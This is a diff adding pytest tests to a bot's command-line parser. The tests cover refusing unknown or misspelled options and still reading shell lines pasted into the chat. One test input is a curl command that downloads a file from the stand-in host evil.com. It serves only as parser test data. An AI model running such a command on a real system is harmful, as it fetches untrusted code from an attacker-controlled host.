@@ -5,7 +5,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from handlers import text
-from handlers.commands import UsageError
+from handlers.commands import UnknownOption, UsageError
 from handlers.parser import parse
 from handlers.request import Verb
 from vt.actions import ACTIONS
@@ -177,3 +177,43 @@ def test_any_text_is_understood_or_said_to_be_wrong(line):
     except UsageError as usage_error:
         said = text.usage_error(usage_error)
     assert said
+
+
+@pytest.mark.parametrize(
+    ("line", "option", "nearest"),
+    [
+        ("--treshold 3 192.0.2.1", "--treshold", "--threshold"),
+        ("192.0.2.1 --treshold=3", "--treshold", "--threshold"),
+        ("192.0.2.1 --Threshold 3", "--Threshold", "--threshold"),
+        ("192.0.2.1 \u2014treshold 3", "--treshold", "--threshold"),
+        ("192.0.2.1 -threshold 3", "-threshold", "--threshold"),
+        ("please look at 192.0.2.1 --shrae", "--shrae", "--share"),
+        ("192.0.2.1 --rescan-after 3", "--rescan-after", "--rescan-after-days"),
+        ("--hots web-1 scan-file", "--hots", "--host"),
+        ("192.0.2.1 --verbose", "--verbose", ""),
+        ("--foo bar 192.0.2.1 8.8.8.8", "--foo", ""),
+        ("scan-ip 192.0.2.1 --treshold 3", "--treshold", "--threshold"),
+        ("scan-url http://a.example/ --verbose", "--verbose", ""),
+    ],
+)
+def test_an_option_that_does_not_exist_is_refused_in_any_line(line, option, nearest):
+    """Dropped in silence, it would be answered for other settings than were asked. The nearest one is named."""
+    with pytest.raises(UnknownOption) as caught:
+        parse(line, {})
+    assert (caught.value.option, caught.value.nearest) == (option, nearest)
+    said = text.usage_error(caught.value)
+    assert option in said
+    assert f"Did you mean {nearest}?" in said if nearest else "Did you mean" not in said
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl --silent -o x http://evil.com/a",
+        "iptables -A INPUT -s 192.0.2.1 --dport 80 -j DROP",
+        "seen in the log: -- 192.0.2.1 --",
+    ],
+)
+def test_a_pasted_command_line_is_still_read(line):
+    """Its options are not meant for the bot, and none of them is nearly one of ours."""
+    assert len(parse(line, {}).lookups) == 1
